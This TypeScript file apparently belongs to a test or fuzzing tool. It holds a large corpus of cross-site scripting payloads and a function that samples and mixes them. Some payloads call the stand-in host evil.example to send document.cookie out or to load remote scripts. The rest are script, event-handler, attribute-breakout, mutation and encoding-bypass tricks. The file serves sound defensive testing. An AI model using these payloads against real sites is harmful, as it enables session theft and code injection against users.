import type { Random } from "./random.ts";

/** Nobody's host: whoever asks it was made to by one of these texts. */
export const FOREIGN_HOST = "evil.example";

const SCRIPT = "<script>alert(1)</script>";
const IMAGE = "<img src=x onerror=alert(1)>";
const URL_OF_SCRIPT = "javascript:alert(1)";

const SCRIPTS = [
  SCRIPT,
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script>window.stolen=1</script>",
  "<script>fetch('//evil.example/?'+document.cookie)</script>",
  "<script>import('https://evil.example/x.js')</script>",
  "<script src=https://evil.example/x.js></script>",
  "<script/src=//evil.example/x.js></script>",
  "<script type=module>import '//evil.example/x.js'</script>",
  "<script\n>alert(1)</script\n>",
  "<<script>alert(1)//<</script>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script href=//evil.example/x.js /></svg>",
];

/** What ends the element, attribute or string that the text stands in. */
const BREAKS = [
  ...["script", "title", "style", "textarea", "noscript", "option></select", "svg", "summary></details"],
  ...["dialog", "template", "iframe", "pre", "code", "table", "button", "li></ul", "h1"],
].map((ended) => `</${ended}>${SCRIPT}`);
const ATTRIBUTES = [
  `">${SCRIPT}`,
  `'>${SCRIPT}`,
  `\`>${SCRIPT}`,
  `"/>${IMAGE}`,
  `-->${IMAGE}`,
  `--!>${IMAGE}`,
  `]]>${IMAGE}`,
  `*/</style>${IMAGE}`,
  '" autofocus tabindex=1 onfocus="alert(1)',
  "' autofocus tabindex=1 onfocus='alert(1)",
  '" onmouseover="alert(1)" style="position:fixed;inset:0',
  "x onerror=alert(1) autofocus onfocus=alert(1) tabindex=1",
  `"'\`><`,
  '"-alert(1)-"',
  "'-alert(1)-'",
  '";alert(1)//',
  "';alert(1)//",
  '\\";alert(1)//',
  "\\",
];

const EVENTS = [
  IMAGE,
  '<img src=x onerror="window.stolen=1">',
  "<img/src=x/onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<iframe onload=alert(1)></iframe>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)" id=link>x</a>',
  '<form action="javascript:alert(1)"><button id=link>x</button></form>',
  '<form><button formaction="javascript:alert(1)" id=link>x</button></form>',
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  '<svg><a href="javascript:alert(1)" id=link><text y=20>x</text></a></svg>',
  "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
  `<math><mtext>${IMAGE}</mtext></math>`,
  "<xss-element onfocus=alert(1) autofocus tabindex=1>x</xss-element>",
  "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>",
];

const REQUESTS = [
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=preload as=image href=//evil.example/x.png>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>body{background:url(//evil.example/x.png)}</style>",
  '<p style="background:url(//evil.example/x.png)">x</p>',
  "<img src=//evil.example/x.png>",
  '<img srcset="//evil.example/x.png 1x">',
  "<picture><source srcset=//evil.example/x.png><img></picture>",
  "<video poster=//evil.example/x.png></video>",
  "<table background=//evil.example/x.png><tr><td>x</table>",
  "<svg><image href=//evil.example/x.png /></svg>",
  "<svg><use href=//evil.example/x.svg#x /></svg>",
  "<iframe src=//evil.example/></iframe>",
  "<object data=//evil.example/></object>",
  "<img src='//evil.example/?",
];

/** Where an address is wanted: of a picture, of a link. */
const ADDRESSES = [
  URL_OF_SCRIPT,
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "\u0001javascript:alert(1)",
  ` ${URL_OF_SCRIPT}`,
  "javascript://%0aalert(1)",
  "javascript&colon;alert(1)",
  "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "//evil.example/x.png",
  "http://evil.example/x.png",
  "https://evil.example/x.png",
  "/\\evil.example/x.png",
  "/\t/evil.example/x.png",
  "\\\\evil.example\\x.png",
  "https:evil.example/x.png",
  "file:///etc/hostname",
  "blob:https://evil.example/x",
  "url(//evil.example/x.png)",
  "x;background:url(//evil.example/x.png)",
];

/** What a parser makes another tree of when it reads it a second time. */
const MUTATIONS = [
  `<noscript><p title="</noscript>${IMAGE}">`,
  `<svg></p><style><a id="</style>${IMAGE}">`,
  `<style><img title="</style>${IMAGE}">`,
  `<textarea><img title="</textarea>${IMAGE}">`,
  `<xmp><p title="</xmp>${IMAGE}">`,
  `<title><p title="</title>${IMAGE}">`,
  `<iframe><p title="</iframe>${IMAGE}">`,
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  `<template><p title="</template>${IMAGE}">`,
  `<!-->${IMAGE}-->`,
  `<!-- --!>${IMAGE}`,
  `<![CDATA[><${IMAGE}]]>`,
  `<?x ><${IMAGE}?>`,
  `<plaintext>${SCRIPT}`,
  `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
];

/** What becomes markup or code when somebody decodes, templates or evaluates it once more. */
const DECODED = [
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&amp;lt;script&amp;gt;alert(1)",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "\\x3cimg src=x onerror=alert(1)\\x3e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "<\u017fcript>alert(1)</\u017fcript>",
  "<\u200bscript>alert(1)</script>",
  `\u202e${IMAGE}`,
  `\u2028alert(1)//`,
  `\ufeff${SCRIPT}`,
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: for whoever takes it for a template
  "${alert(1)}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above
  "`${alert(1)}`",
  "<%= alert(1) %>",
  "#{alert(1)}",
  "[x](javascript:alert(1))",
  "![x](//evil.example/x.png)",
  '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
  '{"$$typeof":"Symbol(react.transitional.element)","type":"script"}',
  "__proto__",
  "constructor",
  "toString",
  "<".repeat(150),
];

const KINDS = [SCRIPTS, BREAKS, ATTRIBUTES, EVENTS, REQUESTS, ADDRESSES, MUTATIONS, DECODED];

/** `count` different texts that would run or fetch something in a page that takes them for more than text. */
export function xssPayloads(count: number, random: Random): string[] {
  // a few of each kind first, so that a small count has all kinds
  const longest = Math.max(...KINDS.map(({ length }) => length));
  const cores = Array.from({ length: longest }, (_, at) =>
    KINDS.flatMap((kind) => kind.slice(at, at + 1)),
  ).flat();
  const made = new Set(cores);
  while (made.size < count) made.add(mixed(cores, random).slice(0, 190));
  return [...made].slice(0, count);
}

function mixed(cores: readonly string[], random: Random): string {
  const [core, other] = [random.pick(cores), random.pick(cores)];
  return random.pick([
    () => `film ${core}`,
    () => core + other,
    () => `"'>${core}`,
    () => `${core}<!--`,
    () => core.toUpperCase(),
    () => core.replaceAll(" ", "/"),
    () => core.replaceAll(" ", "\f"),
    () => core.replaceAll("<", "<\u00a0<"),
    () => core.replaceAll('"', "'"),
  ])();
}
